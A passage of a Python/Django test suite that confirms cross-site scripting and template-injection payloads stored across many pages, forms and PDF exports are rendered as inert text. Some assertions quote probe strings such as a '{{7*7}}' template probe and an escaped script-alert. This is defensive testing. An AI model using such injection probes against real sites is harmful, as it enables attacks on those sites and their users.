    contents = {}
    for name, url in pages.items():
        response = client.get(url)
        assert response.status_code == 200, f"{name} ({url}): {response.status_code}"
        contents[name] = response.content.decode()
    return contents


def assert_inert(contents: dict[str, str]) -> set[int]:
    """No live markup on any page; returns the payloads found back as text."""
    problems = {name: live_markup(html) for name, html in contents.items()}
    assert {name: found for name, found in problems.items() if found} == {}
    seen = set()
    for html in contents.values():
        seen |= {int(n) for n in MARK.findall(page_text(html))}
    return seen


def test_public_pages_render_payloads_inert(world, client):
    contents = read_pages(client, public_pages(world))

    seen = assert_inert(contents)

    assert seen == set(range(len(PAYLOADS)))
    assert "{{7*7}}zqxss39" in page_text(contents["person"])
    assert "&lt;script&gt;alert('zqxss37')" in page_text(contents["person"])


def test_referent_and_participant_pages_render_payloads_inert(world, partner_client, client):
    accompaniment = world["accompaniment"]
    pages = {
        "accompaniment": reverse("accompaniment:detail", args=[accompaniment.pk]),
        "request": reverse("accompaniment:request_detail", args=[world["support_request"].pk]),
        "requests": reverse("accompaniment:request_list"),
        "landing": reverse("accompaniment:landing"),
        "meeting": reverse("charter:meeting_detail", args=[world["meeting"].pk]),
        "my meetings": reverse("charter:my_meetings"),
        "my space": reverse("actors:account"),
        "finding form": reverse("accompaniment:finding_add", args=[accompaniment.pk]),
    }
    contents = read_pages(partner_client, pages)
    join = client.get(reverse("selfassess:join", args=[world["pro"].token]))
    contents.update(read_pages(client, {"participation": join["Location"]}))
    questionnaire = world["questionnaire"]
    for number in (1, 2, 3):
        contents[f"questionnaire page {number}"] = client.get(
            reverse("barometer:answer_page", args=[questionnaire.public_key, number])
        ).content.decode()

    seen = assert_inert(contents)

    assert seen == set(range(len(PAYLOADS)))


def test_staff_pages_render_payloads_inert(world, admin_client):
    # The joint rating pages open once the individual step is over.
    AssessmentSession.objects.filter(pk=world["session"].pk).update(step="group")

    contents = read_pages(admin_client, staff_pages(world))

    seen = assert_inert(contents)

    assert seen == set(range(len(PAYLOADS)))


def test_admin_pages_render_payloads_inert(world, admin_client):
    pages = admin_pages(world)
    contents = read_pages(admin_client, pages)

    seen = assert_inert(contents)

    assert seen == set(range(len(PAYLOADS)))
    assert len(pages) >= 40


def test_contact_relay_pages_render_payloads_inert(world, client, partner_client, admin_client):
    """contact relay: the recipient's pages (reached through the emailed link), the team's list of
    reports and the writing forms, which name the recipient."""
    token = world["contact_token"]
    contents = read_pages(
        client,
        {
            "reply": reverse("directory:contact_reply", args=[token]),
            "abuse": reverse("directory:contact_abuse", args=[token]),
            "structure form": reverse("directory:contact_structure", args=[world["structure"].pk]),
        },
    )
    contents.update(
        read_pages(
            partner_client, {"person form": reverse("directory:contact_person", args=[world["person"].pk])}
        )
    )
    contents.update(read_pages(admin_client, {"abuse reports": reverse("directory:abuse_reports")}))
    stored = world["stored"]
    message_payloads = {
        n
        for name in ("sender_name", "body", "reply", "abuse_reason")
        for n in stored[("ContactMessage", name)]
    }

    seen = assert_inert(contents)

    assert message_payloads <= seen
    assert set(stored[("ContactMessage", "reply")]) <= {
        int(n) for n in MARK.findall(page_text(contents["reply"]))
    }
    assert set(stored[("ContactMessage", "abuse_reason")]) <= {
        int(n) for n in MARK.findall(page_text(contents["abuse reports"]))
    }
    assert set(stored[("Person", "last_name")]) <= {
        int(n) for n in MARK.findall(page_text(contents["person form"]))
    }
    assert set(stored[("Structure", "name")]) <= {
        int(n) for n in MARK.findall(page_text(contents["structure form"]))
    }


def test_event_registration_page_renders_payloads_inert(world, client):
    """The registration's own page, reached through the emailed personal link."""
    contents = read_pages(client, {"manage": reverse("events:manage", args=[world["event_token"]])})
    stored = world["stored"]

    seen = assert_inert(contents)

    event = Meeting.objects.get(pk=world["event"].pk)
    session = EventSession.objects.get(event=event)
    assert {int(n) for n in MARK.findall(event.title)} <= seen
    assert {int(n) for n in MARK.findall(session.title)} <= seen
    assert set(stored[("EventSession", "title")])


def pdf_text(content: bytes) -> str:
    return "".join(page.extract_text() or "" for page in PdfReader(io.BytesIO(content)).pages)


def squeezed(text: str) -> str:
    return re.sub(r"\s+", "", text)


def test_pdfs_show_payloads_as_text_and_fetch_nothing_outside(world):
    session = world["session"]
    documents = {
        "dossier": ("accompaniment/pdf/dossier.html", dossier_context(world["accompaniment"], level=2)),
        "annual report": ("charter/pdf/annual_report.html", annual_report_context(timezone.localdate().year)),
        "self-assessment": ("selfassess/pdf/session.html", target_context(session, session_results(session))),
    }
    texts = {}
    for name, (template, context) in documents.items():
        fetcher = LocalOnlyFetcher()
        texts[name] = pdf_text(render_pdf(template, context, url_fetcher=fetcher))
        assert fetcher.refused == [], name
        assert all(url.startswith("http://testserver/static/") for url in fetcher.served), fetcher.served
    texts["barometer"] = pdf_text(barometer_pdf(world["campaign"]))

    # The accompaniment's context (a long text) carries the fifty payloads, printed as typed.
    dossier = squeezed(texts["dossier"])
    for payload in PAYLOADS:
        assert squeezed(payload) in dossier, payload
    for name, text in texts.items():
        assert MARK.search(text), name
